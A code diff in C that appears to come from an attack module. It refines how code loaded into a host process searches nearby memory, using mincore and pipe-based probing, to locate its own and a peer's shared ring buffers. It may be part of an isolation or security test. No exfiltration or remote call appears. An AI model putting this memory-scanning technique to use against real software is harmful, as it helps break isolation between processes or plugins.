@@ -57,28 +57,47 @@ static inline int writable(struct rings *rings, volatile uint8_t *at) {
     return write(rings->probe[1], &value, 1) == 1 && read(rings->probe[0], (void *)(uintptr_t)at, 1) == 1;
 }
 static inline int is_ring(struct rings *rings, const uint8_t *at) {
-    if (!readable(rings, at) || !readable(rings, at + RING_DATA) || !readable(rings, at + RING_DATA + RING_BYTES - 1)) return 0;
+    if (!readable(rings, at) || !readable(rings, at + RING_DATA)) return 0;
     const struct ring_page *const page = (const struct ring_page *)at;
     const struct ring_head *const first = (const struct ring_head *)(at + RING_DATA);
     return first->magic == HEAD_MAGIC && first->checksum == head_checksum(first) && page->tail % 64 == 0 && page->tail < 1u << 30;
 }
 
-/* From a buffer of the slab, which lies where the rings do, outwards. Half a ring a step, so that none is missed. */
+/* Is this page there already? To read one that is not would make it, and the slabs have a gigabyte each. */
+static inline int present(const uint8_t *at) {
+    unsigned char there = 0;
+    return mincore((void *)(uintptr_t)at, 4096, &there) == 0 && (there & 1) != 0;
+}
+
+#define RING_SEARCH_STEP ((size_t)16 << 20)
+
+/* Looks for rings in [at, at + size). Where nothing is mapped mincore fails, and the parts are asked. */
+static inline void search_rings(struct rings *rings, const uint8_t *at, size_t size) {
+    static unsigned char there[RING_SEARCH_STEP / 4096];
+    if (mincore((void *)(uintptr_t)at, size, there) != 0) {
+        for (size_t part = 0; size > 4096 && part < 16; ++part) search_rings(rings, at + part * (size / 16), size / 16);
+        return;
+    }
+    const size_t pages = size / 4096;
+    /* All of it: of a file that is not ours to write the kernel does not tell what is there. */
+    if (size == RING_SEARCH_STEP && memchr(there, 0, pages) == NULL) return;
+    for (size_t i = 0; i < pages; ++i) {
+        const uint8_t *const page = at + i * 4096;
+        if ((there[i] & 1) == 0 || !present(page + RING_DATA) || !is_ring(rings, page)) continue;
+        if (writable(rings, (volatile uint8_t *)(uintptr_t)page)) rings->own = (struct ring_page *)(uintptr_t)page;
+        else rings->peer = (const struct ring_page *)page;
+    }
+}
+
+/* From a buffer of the slab, which lies where the rings do, outwards. */
 static inline struct rings find_rings(struct attack *a) {
     struct rings rings = {NULL, NULL, {-1, -1}};
     symphony_buf buf = {.struct_size = sizeof buf};
     if (pipe(rings.probe) != 0 || a->self->host->buf_alloc(a->self->host->ctx, 1 << 20, &buf) < 0) return rings;
     const uint8_t *const middle = (const uint8_t *)((uintptr_t)buf.data & ~(uintptr_t)0xFFF);
-    for (intptr_t away = 0; away < (intptr_t)6 << 30 && (rings.own == NULL || rings.peer == NULL); away += 32 << 10) {
-        for (int side = -1; side <= 1; side += 2) {
-            const uint8_t *const near = middle + side * away;
-            if (!readable(&rings, near)) continue;
-            for (const uint8_t *at = near - (64 << 10); at <= near; at += 4096) {
-                if (!is_ring(&rings, at)) continue;
-                if (writable(&rings, (volatile uint8_t *)(uintptr_t)at)) rings.own = (struct ring_page *)(uintptr_t)at;
-                else rings.peer = (const struct ring_page *)at;
-            }
-        }
+    for (size_t away = 0; away < (size_t)3 << 30 && (rings.own == NULL || rings.peer == NULL); away += RING_SEARCH_STEP) {
+        search_rings(&rings, middle + away, RING_SEARCH_STEP);
+        search_rings(&rings, middle - away - RING_SEARCH_STEP, RING_SEARCH_STEP);
     }
     if (buf.ops != NULL) buf.ops->release(buf.owner);
     if (rings.own == NULL || rings.peer == NULL) stopped(a, "found %s", rings.own != NULL ? "its own ring only" : "no ring");
